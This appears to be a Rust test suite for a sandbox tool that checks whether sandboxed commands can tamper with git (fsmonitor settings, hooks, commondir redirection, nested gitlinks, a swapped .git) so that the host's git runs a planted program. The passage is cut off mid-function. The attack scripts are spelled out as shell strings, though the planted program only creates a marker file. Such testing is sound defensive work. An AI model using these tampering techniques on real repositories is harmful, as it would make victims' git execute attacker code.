//! The host's git never runs what the command wrote (issue 11): each tampering attack on every
//! backend, as root and as uid 65534, with host `git status`, `git log` and `git commit` run
//! while the sandboxed command is still running and after it, in the attacked worktree, the
//! main worktree and a second linked worktree. The planted program (an fsmonitor or a hook)
//! would leave a marker file outside; none may appear. Every attack is first run without a
//! sandbox to show that it does make the host's git run the program.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

/// The lines of `out` (stdout, then stderr) that git prints for a failure: `error:` or
/// `fatal:` at the start.
fn git_failures(out: &std::process::Output) -> Vec<String> {
    [&out.stdout, &out.stderr]
        .iter()
        .flat_map(|b| {
            String::from_utf8_lossy(b)
                .lines()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .filter(|l| l.starts_with("error:") || l.starts_with("fatal:"))
        .collect()
}

/// A repository with a main worktree `repo/`, linked worktrees `wt/` (attacked) and `wt2/`,
/// and the program an attacker would plant (`evil.sh`, which creates `ran`).
struct Layout {
    s: Scratch,
    repo: PathBuf,
    wt: PathBuf,
    wt2: PathBuf,
    uid: Option<u32>,
}

impl Layout {
    fn new(uid: Option<u32>, setup: &[&[&str]]) -> Layout {
        Layout::build(uid, setup, false)
    }

    /// With `remote`: a bare `origin.git` beside, pushed to, and every ref packed.
    fn build(uid: Option<u32>, setup: &[&[&str]], remote: bool) -> Layout {
        let s = Scratch::new();
        let (repo, wt) = linked_worktree(&s);
        git(&repo, &["worktree", "add", "-q", "../wt2"]);
        for args in setup {
            git(&repo, args);
        }
        if remote {
            let origin = s.path().join("origin.git");
            git(
                &s.path(),
                &["init", "-q", "--bare", origin.to_str().unwrap()],
            );
            git(
                &repo,
                &["remote", "add", "origin", origin.to_str().unwrap()],
            );
            git(&repo, &["push", "-q", "origin", "main"]);
            git(&repo, &["pack-refs", "--all"]);
        }
        let evil = s.path().join("evil.sh");
        std::fs::write(
            &evil,
            format!("#!/bin/sh\ntouch '{}'\n", s.path().join("ran").display()),
        )
        .unwrap();
        Command::new("chmod")
            .arg("755")
            .arg(&evil)
            .status()
            .unwrap();
        std::fs::create_dir(s.path().join("state")).unwrap();
        if let Some(u) = uid {
            s.chown_all(u);
        }
        let wt2 = s.path().join("wt2");
        Layout {
            s,
            repo,
            wt,
            wt2,
            uid,
        }
    }

    fn ran(&self) -> bool {
        self.s.path().join("ran").exists()
    }

    /// Why the store does not hold `commit` and everything it reaches (`git fsck`, as the
    /// repository's owner), if so.
    fn lacks(&self, commit: &str) -> Option<String> {
        let mut cmd = Command::new("git");
        cmd.args(["fsck", "--no-dangling", commit])
            .current_dir(&self.repo);
        as_uid(&mut cmd, self.uid);
        let fsck = cmd.output().unwrap();
        (!fsck.status.success()).then(|| show(&fsck))
    }

    /// A name of the supervisor's (`shofer…`) in the common dir: none may stay there.
    fn stray_in_common(&self) -> Option<String> {
        std::fs::read_dir(self.repo.join(".git"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .find(|n| n.starts_with("shofer"))
    }

    /// The object quarantines the runs left in the scratch state directory (`q/` of each
    /// entry, docs/GIT.md "Objects").
    fn quarantines(&self) -> Vec<PathBuf> {
        std::fs::read_dir(self.s.path().join("state/shofer/objects"))
            .map(|rd| rd.flatten().map(|e| e.path().join("q")).collect())
            .unwrap_or_default()
    }

    /// A file in `/tmp` (writable in every sandbox) through which a sandboxed command
    /// signals this layout's test (`shofer-git-<what>-<pid>-<scratch>`).
    fn signal_file(&self, what: &str) -> PathBuf {
        std::env::temp_dir().join(format!(
            "shofer-git-{what}-{}-{}",
            std::process::id(),
            self.s.path().file_name().unwrap().to_string_lossy()
        ))
    }

    /// The environment an attack script sees.
    fn vars(&self) -> Vec<(String, String)> {
        let d = |p: &Path| p.display().to_string();
        vec![
            ("EVIL".into(), d(&self.s.path().join("evil.sh"))),
            ("GITDIR".into(), d(&self.repo.join(".git/worktrees/wt"))),
            ("COMMON".into(), d(&self.repo.join(".git"))),
            ("SCRATCH".into(), d(&self.s.path())),
            // The guard's journals go here, not to the user's state directory or /var/tmp.
            ("XDG_STATE_HOME".into(), d(&self.s.path().join("state"))),
        ]
    }

    /// Host git in the three worktrees, as the run's user; returns the failures.
    fn host_git(&self) -> Vec<String> {
        let mut failures = Vec::new();
        for dir in [&self.wt, &self.repo, &self.wt2] {
            for args in [
                &["status", "--short"][..],
                &["log", "-1", "--oneline"],
                &["commit", "-q", "--allow-empty", "-m", "host"],
            ] {
                let mut cmd = Command::new("git");
                // A maintenance the host's commit starts runs in the foreground: a detached
                // one would write into the scratch while it is being removed.
                cmd.args([
                    "-c",
                    "maintenance.autoDetach=false",
                    "-c",
                    "gc.autoDetach=false",
                ])
                .args(args)
                .current_dir(dir)
                .envs(git_env())
                .env("XDG_CONFIG_HOME", self.s.path().join("state"))
                .stdin(Stdio::null());
                as_uid(&mut cmd, self.uid);
                let out = cmd.output().unwrap();
                if !out.status.success() {
                    failures.push(format!(
                        "git {args:?} in {}: {}",
                        dir.display(),
                        String::from_utf8_lossy(&out.stderr)
                    ));
                }
            }
        }
        failures
    }
}

/// The sandbox running `script` in `dir` with `backend`, as `uid` (from a copy it can reach,
/// returned to be kept alive until the run ends).
fn sandboxed(
    uid: Option<u32>,
    dir: &Path,
    backend: &str,
    script: &str,
) -> (Command, Option<ReachableCopy>) {
    let copy = uid.map(|u| ReachableCopy::new(Path::new(SANDBOX), u));
    let program = copy.as_ref().map_or(Path::new(SANDBOX), |c| c.path());
    let mut cmd = Command::new(program);
    cmd.current_dir(dir)
        .envs(git_env())
        .arg(dir)
        .args(["--backend", backend, "-c", script]);
    as_uid(&mut cmd, uid);
    (cmd, copy)
}

fn as_uid(cmd: &mut Command, uid: Option<u32>) {
    if let Some(uid) = uid {
        // Safety: only async-signal-safe syscalls between fork and exec.
        unsafe {
            cmd.pre_exec(move || {
                if libc::setgroups(0, std::ptr::null()) != 0
                    || libc::setgid(uid) != 0
                    || libc::setuid(uid) != 0
                {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
}

/// One attack: git configuration set up before, and the script the command runs (in the
/// attacked worktree).
struct Attack {
    name: &'static str,
    setup: &'static [&'static [&'static str]],
    /// Run in the main worktree instead of `wt`.
    in_main: bool,
    script: &'static str,
}

const EVIL_COMMON: &str = "git init -q --bare \"$PWD/.evilc\" && git config -f \"$PWD/.evilc/config\" core.bare false && git config -f \"$PWD/.evilc/config\" core.fsmonitor \"$EVIL\"";

fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "pointer file to a repository of the command's",
            setup: &[],
            in_main: false,
            script: "git init -q .evilwt && mv .evilwt/.git .evil && git config -f .evil/config core.fsmonitor \"$EVIL\" && printf 'gitdir: .evil\\n' > .git",
        },
        Attack {
            name: "linked gitdir's commondir",
            setup: &[],
            in_main: false,
            script: "EVILC; echo \"$PWD/.evilc\" > \"$GITDIR/commondir\"",
        },
        Attack {
            name: "restore temp name pre-created, then commondir",
            setup: &[],
            in_main: false,
            script: "EVILC; for p in $PPID $$ $(($PPID+1)); do mkdir -p \"$GITDIR/.commondir.shofer-restore-$p\"; done; echo \"$PWD/.evilc\" > \"$GITDIR/commondir\"",
        },
        Attack {
            name: "commondir, then the gitdir made read-only",
            setup: &[],
            in_main: false,
            script: "EVILC; echo \"$PWD/.evilc\" > \"$GITDIR/commondir\"; chmod 0555 \"$GITDIR\"",
        },
        Attack {
            name: "config.worktree with extensions.worktreeConfig",
            setup: &[&["config", "extensions.worktreeConfig", "true"]],
            in_main: false,
            script: "printf '[core]\\n\\tfsmonitor = %s\\n' \"$EVIL\" > \"$GITDIR/config.worktree\"",
        },
        Attack {
            name: "in-tree core.hooksPath",
            setup: &[&["config", "core.hooksPath", ".githooks"]],
            in_main: false,
            script: "mkdir -p .githooks && printf '#!/bin/sh\\n%s\\n' \"$EVIL\" > .githooks/post-commit && chmod +x .githooks/post-commit",
        },
        Attack {
            name: "nested repository registered as a gitlink",
            setup: &[],
            in_main: false,
            script: "mkdir sub && git -C sub init -q && git -C sub commit -q --allow-empty -m s && git -C sub config core.fsmonitor \"$EVIL\" && git add sub",
        },
        Attack {
            name: "gitlink first, the nested config changed afterwards",
            setup: &[],
            in_main: false,
            script: "mkdir sub && git -C sub init -q && git -C sub commit -q --allow-empty -m s && git add sub && sleep 0.3 && git -C sub config core.fsmonitor \"$EVIL\" && sleep 0.5",
        },
        Attack {
            name: "main worktree .git/config",
            setup: &[],
            in_main: true,
            script: "printf '[core]\\n\\tfsmonitor = %s\\n' \"$EVIL\" >> .git/config",
        },
        Attack {
            name: "main worktree .git/commondir",
            setup: &[],
            in_main: true,
            script: "EVILC; echo \"$PWD/.evilc\" > .git/commondir",
        },
        Attack {
            name: "main worktree hooks/",
            setup: &[],
            in_main: true,
            script: "mkdir -p .git/hooks && printf '#!/bin/sh\\n%s\\n' \"$EVIL\" > .git/hooks/post-commit && chmod +x .git/hooks/post-commit",
        },
        Attack {
            // Directories of mode 0500 keep even their owner from moving anything out of them:
            // as uid 65534 the restore spent 18 s on them, then gave up with the hook in place.
            name: "main worktree hooks/, behind directories the restore cannot empty",
            setup: &[],
            in_main: true,
            // The tree arrives in one exchange (renameat2 RENAME_EXCHANGE): no restore can
            // come between its parts.
            script: "mkdir -p t/h/x/y/z && printf '#!/bin/sh\\n%s\\n' \"$EVIL\" > t/h/post-commit && chmod +x t/h/post-commit && chmod 500 t/h/x/y t/h/x && /usr/bin/python3 -c 'import ctypes, os; c = ctypes.CDLL(None, use_errno=True); assert c.renameat2(-100, b\"t/h\", -100, b\".git/hooks\", 2) == 0, os.strerror(ctypes.get_errno())'",
        },
        Attack {
            name: "main worktree: another worktree's commondir",
            setup: &[],
            in_main: true,
            script: "EVILC; echo \"$PWD/.evilc\" > .git/worktrees/wt2/commondir",
        },
        Attack {
            name: "main worktree .git renamed away and replaced",
            setup: &[],
            in_main: true,
            script: "mv .git .git-old && cp -r .git-old .git && printf '[core]\\n\\tfsmonitor = %s\\n' \"$EVIL\" >> .git/config",
        },
    ]
}

fn script_of(a: &Attack) -> String {
    a.script.replace("EVILC", EVIL_COMMON)
}

/// Without a sandbox, the attack makes the host's git run the planted program.
fn attack_works_unsandboxed(a: &Attack) {
    let l = Layout::new(None, a.setup);
    let dir = if a.in_main { &l.repo } else { &l.wt };
    let out = Command::new("sh")
        .arg("-c")
        .arg(script_of(a))
        .current_dir(dir)
        .envs(git_env())
        .envs(l.vars())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}: {}", a.name, show(&out));
    l.host_git();
    assert!(
        l.ran(),
        "control: '{}' does not make the host's git run the program",
        a.name
    );
}

/// Starts the sandboxed attack: it tampers, signals through a file in `/tmp` (writable), and
/// waits for `go` (outside the writable set: only the test can create it).
fn start(l: &Layout, backend: &str, a: &Attack) -> (Child, PathBuf, PathBuf) {
    let go = l.s.path().join("go");
    let ready = l.signal_file("test");
    let script = format!(
        "{} ; touch '{r}'; while [ ! -e '{g}' ]; do sleep 0.02; done",
        script_of(a),
        r = ready.display(),
        g = go.display(),
    );
    let dir = if a.in_main { &l.repo } else { &l.wt };
    let (mut cmd, _copy) = sandboxed(l.uid, dir, backend, &script);
    cmd.envs(l.vars())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = cmd.spawn().unwrap();
    (child, ready, go)
}

fn wait_for(path: &Path, child: &mut Child) -> bool {
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        if path.exists() {
            return true;
        }
        if child.try_wait().unwrap().is_some() {
            return false;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    false
}

/// Whether git works in a private view on backend `b` ([`crate`]'s namespace backends,
/// without `--keep-caps`): the command's changes to control files are its own there.
fn private_view(b: &str) -> bool {
    b != "landlock"
}

fn uids() -> Vec<Option<u32>> {
    if is_root() {
        vec![None, Some(UNPRIV)]
    } else {
        vec![None]
    }
}

#[test]
fn no_tampering_attack_makes_the_host_git_run_the_commands_program() {
    let mut failures = Vec::new();
    for a in attacks() {
        attack_works_unsandboxed(&a);
        for b in backends() {
            for uid in uids() {
                let l = Layout::new(uid, a.setup);
                let (mut child, ready, go) = start(&l, b, &a);
                let was_ready = wait_for(&ready, &mut child);
                let during = l.host_git();
                let ran_during = l.ran();
                // Cleared, so that a run after the command is seen on its own.
                let _ = std::fs::remove_file(l.s.path().join("ran"));
                std::fs::write(&go, "").unwrap();
                let _ = std::fs::remove_file(&ready);
                let out = child.wait_with_output().unwrap();
                let after = l.host_git();
                let cell = format!("{} / {b} / uid {uid:?}", a.name);
                if !was_ready {
                    failures.push(format!("{cell}: the command ended early: {}", show(&out)));
                }
                let ran_after = l.ran();
                // Landlock cannot make a file inside the writable gitdir read-only: the guard
                // restores it at once, and a host git that reads between the write and the
                // restore sees the command's version — the window the report and README state
                // ("git_guard"). A nested repository's config is checked when the index
                // changes and every 200 ms, on every backend: the window the report names
                // (`nested_repositories_during_run`, until issue 31's private view). A hit
                // during the run is such a window there (printed); everywhere else, and after
                // any run, it is an escape.
                let nested = a.name.contains("gitlink");
                if ran_during && (b == "landlock" || nested) {
                    println!("{cell}: the host's git read in the stated window");
                } else if ran_during || ran_after {
                    failures.push(format!(
                        "{cell}: the host's git ran the command's program ({}): {}",
                        if ran_during {
                            "during the run"
                        } else {
                            "after it"
                        },
                        show(&out)
                    ));
                }
                if !after.is_empty() {
                    failures.push(format!("{cell}: host git fails after the run: {after:?}"));
                }
                let _ = during;
                if out.status.code() != Some(0) {
                    failures.push(format!("{cell}: exit status: {}", show(&out)));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Landlock: a guardian and supervisor killed together with SIGKILL cannot restore; a
/// descendant that outlives them tampers afterwards. The journal outside the writable set lets `--repair` (and the next run)
/// finish the restore.
#[test]
fn a_restore_left_by_a_killed_supervisor_is_finished_by_repair_and_by_the_next_run() {
    if !backends().contains(&"landlock") {
        return;
    }
    for uid in uids() {
        for finish_by_next_run in [false, true] {
            let l = Layout::new(uid, &[]);
            let go = l.s.path().join("go");
            let ready = l.signal_file("kill");
            let script = format!(
                "{EVIL_COMMON}; setsid sh -c 'while [ ! -e {g} ]; do sleep 0.02; done; echo \"$PWD/.evilc\" > \"$GITDIR/commondir\"' </dev/null >/dev/null 2>&1 & \
                 trap '' TERM; touch {r}; sleep 60",
                g = go.display(),
                r = ready.display()
            );
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, "landlock", &script);
            cmd.envs(l.vars())
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null());
            let mut child = cmd.spawn().unwrap();
            let started = wait_for(&ready, &mut child);
            let _ = std::fs::remove_file(&ready);
            assert!(started, "the command did not start");
            // The guardian and the supervisor killed together: the guardian stopped first, so
            // it cannot act on the supervisor's death (stopping the supervisor instead does not
            // hold: the guardian's death orphans its process group, and the kernel sends it
            // SIGCONT). No restore, no cleanup; the setsid() child survives.
            let guardian = child.id() as i32;
            let supervisor = child_named(guardian, "shofer-sandbox").expect("the supervisor");
            // Safety: signalling the processes this test started.
            unsafe { libc::kill(guardian, libc::SIGSTOP) };
            let deadline = Instant::now() + Duration::from_secs(5);
            while shofer_sys::proc::read(guardian).is_some_and(|p| !p.is_stopped()) {
                assert!(Instant::now() < deadline, "the guardian did not stop");
                std::thread::sleep(Duration::from_millis(5));
            }
            // Safety: as above (the guardian, stopped, has not reaped it).
            unsafe { libc::kill(supervisor, libc::SIGKILL) };
            child.kill().unwrap(); // SIGKILL
            child.wait().unwrap();
            std::fs::write(&go, "").unwrap();
            let commondir = l.repo.join(".git/worktrees/wt/commondir");
            let deadline = Instant::now() + Duration::from_secs(10);
            while std::fs::read_to_string(&commondir).unwrap() == "../..\n" {
                assert!(Instant::now() < deadline, "the survivor did not tamper");
                std::thread::sleep(Duration::from_millis(20));
            }
            let copy = uid.map(|u| ReachableCopy::new(Path::new(SANDBOX), u));
            let mut cmd = Command::new(copy.as_ref().map_or(Path::new(SANDBOX), |c| c.path()));
            if finish_by_next_run {
                cmd.arg(&l.wt).args(["--", "true"]);
            } else {
                cmd.arg("--repair").arg(&l.wt);
            }
            cmd.env("XDG_STATE_HOME", l.s.path().join("state"))
                .current_dir(&l.repo)
                .stdin(Stdio::null());
            as_uid(&mut cmd, uid);
            let out = cmd.output().unwrap();
            assert_eq!(out.status.code(), Some(0), "{uid:?}: {}", show(&out));
            assert!(
                String::from_utf8_lossy(&out.stderr).contains("restored from the journal"),
                "{}",
                show(&out)
            );
            assert_eq!(std::fs::read_to_string(&commondir).unwrap(), "../..\n");
            assert!(l.host_git().is_empty());
            assert!(!l.ran(), "{uid:?}: the host's git ran the planted program");
            // The journal is gone once the restore is complete.
            let left: Vec<_> = std::fs::read_dir(l.s.path().join("state/shofer/git-guard"))
                .unwrap()
                .flatten()
                .collect();
            assert!(left.is_empty(), "{left:?}");
        }
    }
}

/// A child of `parent` whose command name is `comm`.
fn child_named(parent: i32, comm: &str) -> Option<i32> {
    shofer_sys::proc::live_with_cmdline(|_| true)
        .into_iter()
        .filter(|p| p.ppid == parent)
        .map(|p| p.pid)
        .find(|pid| {
            std::fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|c| c.trim() == comm)
        })
}

/// Namespace backends: a run killed with SIGKILL leaves its new objects in its quarantine;
/// `shofer-sandbox --repair .` in the worktree moves them into the store (it once looked the
/// quarantine up by the relative path, found nothing and said "nothing to repair").
#[test]
fn a_killed_runs_objects_are_moved_by_repair_given_a_relative_path() {
    let mut failures = Vec::new();
    for b in backends().into_iter().filter(|b| *b != "landlock") {
        for uid in uids() {
            let l = Layout::new(uid, &[]);
            let ready = l.signal_file("repair");
            // More than the copier takes while the run lasts (quarantine::LIVE_MAX).
            let script = format!(
                "X=$(head -c 5000000 /dev/urandom | git hash-object -w --stdin); \
                 echo $X > {r}.new; mv {r}.new {r}; sleep 60",
                r = ready.display()
            );
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, &script);
            cmd.envs(l.vars())
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null());
            let mut child = cmd.spawn().unwrap();
            let started = wait_for(&ready, &mut child);
            let id = std::fs::read_to_string(&ready).unwrap_or_default();
            let _ = std::fs::remove_file(&ready);
            child.kill().unwrap(); // SIGKILL: no migration
            child.wait().unwrap();
            let cell = format!("{b} / uid {uid:?}");
            if !started || id.trim().len() != 40 {
                failures.push(format!("{cell}: the command did not write its object"));
                continue;
            }
            let copy = uid.map(|u| ReachableCopy::new(Path::new(SANDBOX), u));
            let repair = || {
                let mut cmd = Command::new(copy.as_ref().map_or(Path::new(SANDBOX), |c| c.path()));
                cmd.args(["--repair", "."])
                    .env("XDG_STATE_HOME", l.s.path().join("state"))
                    .current_dir(&l.wt)
                    .stdin(Stdio::null());
                as_uid(&mut cmd, uid);
                cmd.output().unwrap()
            };
            // The namespace's PID 1 holds the quarantine's lock until it has died too, a
            // moment after the supervisor: until then --repair says the quarantine is in use.
            let deadline = Instant::now() + Duration::from_secs(10);
            let mut out = repair();
            while String::from_utf8_lossy(&out.stderr).contains("in use")
                && Instant::now() < deadline
            {
                std::thread::sleep(Duration::from_millis(50));
                out = repair();
            }
            let moved = String::from_utf8_lossy(&out.stderr).contains("moved 1 new git objects");
            if out.status.code() != Some(0) || !moved {
                failures.push(format!("{cell}: --repair .\n{}", show(&out)));
            }
            if l.lacks(id.trim()).is_some() {
                failures.push(format!("{cell}: object {} not in the store", id.trim()));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Landlock, full disk: the restore cannot write its copy, so the command's file is removed
/// (which frees its space) and the next pass puts the original back; the error and the restore
/// are both on stderr and in the closing report record.
#[test]
fn a_full_disk_does_not_defeat_the_restore() {
    if !backends().contains(&"landlock") || skip_unless_root("full disk") {
        return;
    }
    let s = Scratch::new();
    let disk = s.path().join("disk");
    std::fs::create_dir(&disk).unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=1m", "shofer-git-test"])
        .arg(&disk)
        .status()
        .unwrap();
    assert!(mounted.success());
    let result = std::panic::catch_unwind(|| {
        let repo = disk.join("repo");
        std::fs::create_dir(&repo).unwrap();
        git(&repo, &["init", "-q", "-b", "main"]);
        git(&repo, &["commit", "-q", "--allow-empty", "-m", "init"]);
        git(&repo, &["worktree", "add", "-q", "../wt"]);
        let wt = disk.join("wt");
        let commondir = repo.join(".git/worktrees/wt/commondir");
        let report = s.path().join("report.json");
        let script = format!(
            "dd if=/dev/zero of=fill bs=4k 2>/dev/null; dd if=/dev/zero of=fill2 bs=1 2>/dev/null; printf x >> '{}'; sleep 0.2",
            commondir.display()
        );
        let out = Command::new("sh")
            .arg("-c")
            .arg(format!(
                "exec 9>'{}'; exec '{SANDBOX}' --backend landlock --report 9 '{}' -c \"$0\"",
                report.display(),
                wt.display()
            ))
            .arg(&script)
            .current_dir(&wt)
            .envs(git_env())
            .env("XDG_STATE_HOME", s.path())
            .output()
            .unwrap();
        let records: Vec<serde_json::Value> = std::fs::read_to_string(&report)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(records.len(), 2, "{records:?}");
        assert_eq!(records[1]["git_restore"]["complete"], true, "{records:?}");
        assert!(
            !records[1]["git_restore"]["failed"]
                .as_array()
                .unwrap()
                .is_empty(),
            "the disk was not full: {records:?}"
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{}", show(&out));
        assert!(err.contains("No space left"), "{err}");
        assert_eq!(std::fs::read_to_string(&commondir).unwrap(), "../..\n");
        let gitdir = repo.join(".git/worktrees/wt");
        let leftovers: Vec<_> = std::fs::read_dir(&gitdir)
            .unwrap()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().contains("shofer-restore"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
    });
    let _ = Command::new("umount").arg(&disk).status();
    result.unwrap();
}

/// The git commands an agent runs, in a linked worktree (`wt`, branch `wt`) whose repository
/// has a local remote `origin` and packed refs. `set -e`: the first failing command ends it.
const GIT_OPS: &str = r#"set -e
run() { echo "+ $*"; "$@"; }
run git status --short
echo one > f1; run git add f1; run git commit -qm one
run git commit -q --amend -m one-amended
run git branch topic; run git tag v1; run git tag -a v2 -m v2
run git branch -d topic; run git tag -d v1; run git tag -d v2
echo s > f2; git add f2; run git stash push -q; run git stash pop -q
git add f2; run git stash push -q; run git stash clear
echo two > f1; git commit -qam two; echo three > f1; git commit -qam three
run env GIT_SEQUENCE_EDITOR="sed -i 1s/^pick/reword/" GIT_EDITOR=true git rebase -q -i HEAD~2
run git rebase -q --force-rebase HEAD~1
run git switch -q -c side HEAD~1; echo side > f3; git add f3; git commit -qm side
run git switch -q wt
run git cherry-pick side
run git revert --no-edit HEAD
run git merge -q --no-edit side
run git reset -q --hard HEAD~1
run git checkout -q HEAD~1; run git checkout -q wt
run git fetch -q origin
run git fetch -q --prune origin
run git pull -q --no-rebase --no-edit origin main
run git update-ref refs/heads/tmp HEAD; run git update-ref -d refs/heads/tmp
run git branch -D side
run git worktree list
run git repack -q
run git gc --auto
run git status --short
echo ALL-OK
"#;

/// A repository inside a writable root (`/tmp`, where agent hosts often put worktrees): the
/// command can write beside it, so nothing is "outside the writable set" by location. The
/// common `config` and `hooks/` are kept on every backend (read-only binds; Landlock's guard
/// restores them); the directories above the worktree and the repository cannot be renamed
/// away on the namespace backends (pinned by binds), and on Landlock, which cannot prevent
/// it, the move is named and fails the run. A host git in the worktree afterwards runs
/// nothing of the command's.
#[test]
fn a_repository_inside_tmp_cannot_be_reconfigured_or_moved_away() {
    const SCRIPT: &str = r#"
printf '[core]
	fsmonitor = %s
' "$EVIL" >> "$COMMON/config"
printf '#!/bin/sh
%s
' "$EVIL" > "$COMMON/hooks/post-commit"
chmod 755 "$COMMON/hooks/post-commit"
sleep 0.3
mv "$TOP" "$TOP-moved"; echo "mv=$?"
"#;
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            let s = Scratch::new_in("/tmp");
            let top = s.path().join("r");
            std::fs::create_dir(&top).unwrap();
            let repo = top.join("repo");
            std::fs::create_dir(&repo).unwrap();
            git(&repo, &["init", "-q", "-b", "main"]);
            git(&repo, &["commit", "-q", "--allow-empty", "-m", "init"]);
            std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
            git(&repo, &["worktree", "add", "-q", "../wt"]);
            let wt = top.join("wt");
            let evil = s.path().join("evil.sh");
            let ran = s.path().join("ran");
            std::fs::write(
                &evil,
                format!(
                    "#!/bin/sh
touch '{}'
",
                    ran.display()
                ),
            )
            .unwrap();
            std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
            if let Some(u) = uid {
                s.chown_all(u);
            }
            let common = repo.join(".git");
            let config = std::fs::read(common.join("config")).unwrap();
            // The journal a failed run keeps goes here, not into the user's state directory.
            let state = Scratch::new();
            if let Some(u) = uid {
                state.chown_all(u);
            }
            let (mut cmd, _copy) = sandboxed(uid, &wt, b, SCRIPT);
            cmd.env("XDG_STATE_HOME", state.path())
                .env("EVIL", &evil)
                .env("COMMON", &common)
                .env("TOP", &top)
                .stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let stdout = String::from_utf8_lossy(&out.stdout).to_string();
            let moved = top.with_file_name("r-moved");
            if moved.exists() {
                std::fs::rename(&moved, &top).unwrap();
            }
            let what = format!("{b} / uid {uid:?}: {}", show(&out));
            if b == "landlock" {
                let stderr = String::from_utf8_lossy(&out.stderr);
                if out.status.code() != Some(125)
                    || !stderr.contains("hardening not enforced (git_location)")
                    || !stderr.contains(&format!("moved {} away", wt.display()))
                {
                    failures.push(format!("the move is not named: {what}"));
                }
            } else if out.status.code() != Some(0) || !stdout.contains("mv=1") {
                failures.push(format!("the repository could be moved: {what}"));
            }
            if std::fs::read(common.join("config")).unwrap() != config
                || common.join("hooks/post-commit").exists()
            {
                failures.push(format!("config or hooks changed: {what}"));
            }
            let mut host = Command::new("git");
            host.args(["commit", "-q", "--allow-empty", "-m", "host"])
                .current_dir(&wt)
                .envs(git_env())
                .stdin(Stdio::null());
            as_uid(&mut host, uid);
            let h = host.output().unwrap();
            if !h.status.success() || ran.exists() {
                failures.push(format!(
                    "host git after: {what}
host: {}",
                    show(&h)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// A repository with a remote `origin` (bare, outside), packed refs, linked worktrees `wt`
/// and `wt2`.
fn repo_with_remote(uid: Option<u32>) -> Layout {
    Layout::build(uid, &[], true)
}

/// What a private view adds to [`GIT_OPS`] (issue 31): what changes the common dir's own
/// files, a rebase with `exec`, a push to a bare repository in the writable set, and a
/// branch of its own deleted with `-D`.
const GIT_OPS_VIEW: &str = r#"run git config --local user.agent yes
run git gc -q
run git pack-refs --all
run git reflog expire --all
run env GIT_SEQUENCE_EDITOR="sed -i 1aexec\ true" GIT_EDITOR=true git rebase -q -i HEAD~1
run git branch own; run git branch -D own
bare=$(mktemp -d); run git init -q --bare "$bare/p.git"; run git push -q "$bare/p.git" HEAD:refs/heads/x
"#;

/// Every git command works in a linked worktree on every backend: exit 0, and no `error:`
/// line. On Landlock the supervisor performs git's `packed-refs.lock` protocol (docs/GIT.md,
/// "Landlock limits"); on every backend it answers `git branch -d`'s rewrite of the unchanged,
/// read-only `config`. In a private view, [`GIT_OPS_VIEW`] as well.
#[test]
fn every_git_command_works_in_a_linked_worktree_on_every_backend() {
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            let l = repo_with_remote(uid);
            let ops = match private_view(b) {
                true => GIT_OPS.replace("echo ALL-OK", &format!("{GIT_OPS_VIEW}echo ALL-OK")),
                false => GIT_OPS.to_string(),
            };
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, &ops);
            cmd.envs(l.vars())
                .env("XDG_CONFIG_HOME", l.s.path().join("state"))
                .stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let text = format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
            let common = l.repo.join(".git");
            let errors = git_failures(&out);
            if out.status.code() != Some(0) || !errors.is_empty() || !text.contains("ALL-OK") {
                failures.push(format!("{b} / uid {uid:?}: {errors:?}\n{}", show(&out)));
            }
            // The host's git is fine afterwards, and no placeholder is left behind.
            let after = l.host_git();
            if !after.is_empty() {
                failures.push(format!("{b} / uid {uid:?}: host git after: {after:?}"));
            }
            if common.join("commondir").exists() {
                failures.push(format!("{b} / uid {uid:?}: placeholder commondir left"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// git's own steps on `config.lock`, done by hand: the rename of an unchanged copy onto the
/// read-only `config` is answered (the lock goes, `config` stays), a changed copy, a symlink
/// and a rename relative to a directory descriptor are refused, and nothing the command wrote
/// becomes the configuration — on every backend, in a linked worktree and a main worktree.
const CONFIG_LOCK_OPS: &str = r#"
import os, sys
common = sys.argv[1]
lock, cfg = os.path.join(common, "config.lock"), os.path.join(common, "config")
def step(name, f):
    try:
        f()
        print(name, "ok")
    except OSError as e:
        print(name, "refused", e.errno)
    for p in (lock,):
        try:
            os.unlink(p)
        except OSError:
            pass
def write_lock(data):
    fd = os.open(lock, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o644)
    os.write(fd, data)
    os.close(fd)
same = open(cfg, "rb").read()
def unchanged():
    write_lock(same)
    os.rename(lock, cfg)
    assert not os.path.exists(lock), "the lock stayed"
def changed():
